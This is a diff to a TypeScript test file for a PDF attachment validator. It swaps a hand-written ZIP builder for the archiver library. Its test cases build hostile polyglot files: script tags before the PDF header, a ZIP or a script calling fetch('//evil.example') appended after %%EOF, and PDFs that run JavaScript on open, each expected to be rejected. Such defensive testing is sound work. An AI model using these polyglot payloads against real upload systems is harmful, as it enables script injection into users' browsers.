@@ -1,5 +1,5 @@
+import archiver from 'archiver';
 import { execFileSync } from 'node:child_process';
-import * as zlib from 'node:zlib';
 import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -197,7 +197,7 @@ describe('disclosure attachments and PDFs', () => {
 
     it.each<[string, () => Promise<Buffer>, string, RegExp]>([
       ['HTML with a script in front of the header', async () => Buffer.concat([Buffer.from('<html><script>alert(document.domain)</script></html>\n'), await makePdf()]), 'not_a_pdf', /before its %PDF- header/],
-      ['a ZIP appended after %%EOF', async () => Buffer.concat([await makePdf(), zipOf('index.html', '<script>alert(1)</script>')]), 'not_a_pdf', /after the PDF ends/],
+      ['a ZIP appended after %%EOF', async () => Buffer.concat([await makePdf(), await zipOf('index.html', '<script>alert(1)</script>')]), 'not_a_pdf', /after the PDF ends/],
       ['a script appended after %%EOF', async () => Buffer.concat([await makePdf(), Buffer.from('\n<script>fetch("//evil.example")</script>\n')]), 'not_a_pdf', /after the PDF ends/],
       ['JavaScript run on open (/OpenAction)', () => activePdf('JavaScript'), 'pdf_active_content', /\/(JavaScript|JS)\)/],
       ['JavaScript inside a compressed object stream', () => activePdf('JavaScript', { objectStreams: true }), 'pdf_active_content', /\/(JavaScript|JS)\)/],
@@ -328,31 +328,14 @@ async function plainPdf(options: { objectStreams: boolean }): Promise<Buffer> {
   return Buffer.from(await document.save({ useObjectStreams: options.objectStreams }));
 }
 
-/** A ZIP archive (stored, one file), as a polyglot would append it. */
-function zipOf(name: string, text: string): Buffer {
-  const data = Buffer.from(text);
-  const fileName = Buffer.from(name);
-  const crc = zlib.crc32(data);
-  const local = Buffer.alloc(30);
-  local.writeUInt32LE(0x04034b50, 0);
-  local.writeUInt16LE(20, 4);
-  local.writeUInt32LE(crc, 14);
-  local.writeUInt32LE(data.length, 18);
-  local.writeUInt32LE(data.length, 22);
-  local.writeUInt16LE(fileName.length, 26);
-  const central = Buffer.alloc(46);
-  central.writeUInt32LE(0x02014b50, 0);
-  central.writeUInt16LE(20, 4);
-  central.writeUInt16LE(20, 6);
-  central.writeUInt32LE(crc, 16);
-  central.writeUInt32LE(data.length, 20);
-  central.writeUInt32LE(data.length, 24);
-  central.writeUInt16LE(fileName.length, 28);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(1, 8);
-  end.writeUInt16LE(1, 10);
-  end.writeUInt32LE(central.length + fileName.length, 12);
-  end.writeUInt32LE(local.length + fileName.length + data.length, 16);
-  return Buffer.concat([local, fileName, data, central, fileName, end]);
+/** A ZIP archive of one file, as a polyglot would append it. */
+async function zipOf(name: string, text: string): Promise<Buffer> {
+  const archive = archiver('zip', { store: true });
+  const chunks: Buffer[] = [];
+  archive.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const ended = new Promise((resolve, reject) => archive.on('end', resolve).on('error', reject));
+  archive.append(text, { name });
+  await archive.finalize();
+  await ended;
+  return Buffer.concat(chunks);
 }
